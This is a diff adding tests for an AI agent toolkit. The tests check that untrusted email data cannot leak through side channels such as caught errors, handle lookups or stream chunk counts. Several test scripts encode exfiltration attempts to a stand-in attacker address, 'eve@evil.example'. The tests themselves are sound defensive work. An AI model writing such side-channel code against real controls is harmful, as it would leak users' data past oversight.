@@ -184,6 +184,94 @@ describe('a program in a toolkit with the option flow', () => {
     expect(calls).toEqual([]);
   });
 
+  it('has looked if a call that was given a value is denied', async () => {
+    const { run, calls, session } = createToolkit();
+    session.said('bob@example.com');
+    await run(`const mails = await tools.inbox({});
+      let to = 'ann@example.com';
+      try { await tools.send({ to: mails[0].from, text: '' }); } catch { to = 'carol@example.com'; }
+      try { await tools.send({ to: mails[1].from, text: '' }); } catch { to = 'eve@evil.example'; }
+      await tools.send({ to, text: '' });`);
+    expect(calls).toEqual([{ to: 'bob@example.com', text: '' }]);
+  });
+
+  it('has looked if a call that was given a value that the user has written is refused', async () => {
+    const { run, calls, session } = createToolkit();
+    session.said('bob@example.com');
+    const result = await run(`const mails = await tools.inbox({});
+      let to = 'ann@example.com';
+      try { await tools.remove({ id: [mails[0].from] }); } catch { to = 'eve@evil.example'; }
+      await tools.send({ to, text: '' });`);
+    expect(result.error).toBeDefined();
+    expect(calls).toEqual([]);
+  });
+
+  it('does not see what a tool returns of a value that the user has written', async () => {
+    const { toolkit, run, session } = createToolkit();
+    const annotations = { readOnlyHint: true, openWorldHint: false };
+    toolkit.register(
+      ToolSpec.fromFunction((text: string): object => ({ text }), {
+        name: 'echo',
+        annotations,
+        params: { text: { schema: {} } },
+      }),
+    );
+    session.said('bob@example.com');
+    const result = await run(`const mails = await tools.inbox({});
+      const echoes = await Promise.all([mails[0], mails[1]].map(({ from }) => tools.echo({ text: from })));
+      echoes.map(({ text }) => typeof text).join()`);
+    expect(result.structuredContent).toMatchObject({ value: 'object,object' });
+  });
+
+  it('has looked if a handle of its model names no value', async () => {
+    const { toolkit, session, run, calls } = createToolkit();
+    const annotations = { readOnlyHint: true };
+    const list = (): object => mails;
+    const allowedCallers = ['direct', 'code'] as const;
+    const options = { trust: 'untrusted', show: 'handle', annotations, allowedCallers } as const;
+    toolkit.register(ToolSpec.fromFunction(list, { name: 'kept', ...options }));
+    await session.execute('kept', {}, { callId: 'c1' });
+    const code = (handle: string) => `let to = 'ann@example.com';
+      try { await tools.send({ to, text: '${handle}' }); } catch { to = 'eve@evil.example'; }
+      await tools.send({ to, text: 'end' });`;
+    expect((await run(code('@c1/0/body'))).error).toBeUndefined();
+    expect(calls).toEqual([
+      { to: 'ann@example.com', text: order },
+      { to: 'ann@example.com', text: 'end' },
+    ]);
+    expect((await run(code('@c1/9/body'))).error).toBeDefined();
+    expect(calls).toHaveLength(2);
+  });
+
+  it('has looked at a stream whose chunks it counts, unless their number is declared harmless', async () => {
+    for (const length of ['untrusted', 'trusted'] as const) {
+      const fields = { '': { length } };
+      const { toolkit, run, calls } = createToolkit();
+      const lines = async function* () {
+        yield await Promise.resolve('a');
+        yield 'b';
+      };
+      toolkit.register(
+        ToolSpec.fromFunction(lines, { name: 'lines', trust: 'untrusted', fields, annotations: readOnly }),
+      );
+      await run(`let count = 0;
+        await tools.lines({}, () => { count++; });
+        await tools.send({ to: 'ann' + count + '@example.com', text: '' });`);
+      expect(calls).toEqual(length === 'trusted' ? [{ to: 'ann2@example.com', text: '' }] : []);
+    }
+  });
+
+  it('passes handles of its model after an error that others have not written', async () => {
+    const { toolkit, session, run, calls } = createToolkit();
+    const options = { trust: 'untrusted', show: 'handle', annotations: readOnly } as const;
+    const kept = (): object => mails;
+    toolkit.register(ToolSpec.fromFunction(kept, { name: 'kept', ...options, allowedCallers: ['direct', 'code'] }));
+    await session.execute('kept', {}, { callId: 'c1' });
+    await run(`try { await tools.send({ to: 5 }); } catch {}
+      await tools.send({ to: 'ann@example.com', text: '@c1/0/body' });`);
+    expect(calls).toEqual([{ to: 'ann@example.com', text: order }]);
+  });
+
   it('says in the description of run_code which way needs no question', () => {
     const { toolkit } = createToolkit();
     const describedBy = (from: Toolkit) => from.list().find(({ name }) => name === 'run_code')?.description;
